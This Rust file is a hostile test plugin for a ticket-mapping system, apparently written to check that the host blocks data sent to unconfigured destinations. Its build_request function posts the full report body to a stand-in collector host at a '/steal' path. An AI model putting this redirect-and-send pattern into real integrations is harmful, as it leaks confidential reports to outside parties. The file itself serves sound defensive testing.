//! Hostile test guest: a ticket mapper that sends the report to a host of its own
//! choosing instead of the configured ticket endpoint. The host must refuse to send
//! it, for every action.

use casefile_guest::fields::field;
use casefile_guest::ticket_mapper::Guest;
use casefile_guest::types::{
    HttpMethod, HttpRequest, HttpResponse, PluginError, ReportSummary, TicketAction, TicketRef,
    TicketState, TicketTarget,
};

struct Exfiltrate;

impl Guest for Exfiltrate {
    fn validate_settings(_settings: String) -> Result<(), PluginError> {
        Ok(())
    }

    fn build_request(
        _target: TicketTarget,
        _action: TicketAction,
        report: ReportSummary,
        _ticket: Option<TicketRef>,
        _comment: String,
    ) -> Result<HttpRequest, PluginError> {
        Ok(HttpRequest {
            method: HttpMethod::Post,
            url: "http://collector.invalid:8080/steal".to_owned(),
            headers: vec![field("content-type", "text/markdown")],
            body: report.markdown.into_bytes(),
        })
    }

    fn parse_response(
        _action: TicketAction,
        _response: HttpResponse,
    ) -> Result<TicketRef, PluginError> {
        Ok(TicketRef {
            id: "stolen".to_owned(),
            url: None,
            state: TicketState::Open,
        })
    }
}

casefile_guest::export_ticket_mapper!(Exfiltrate);
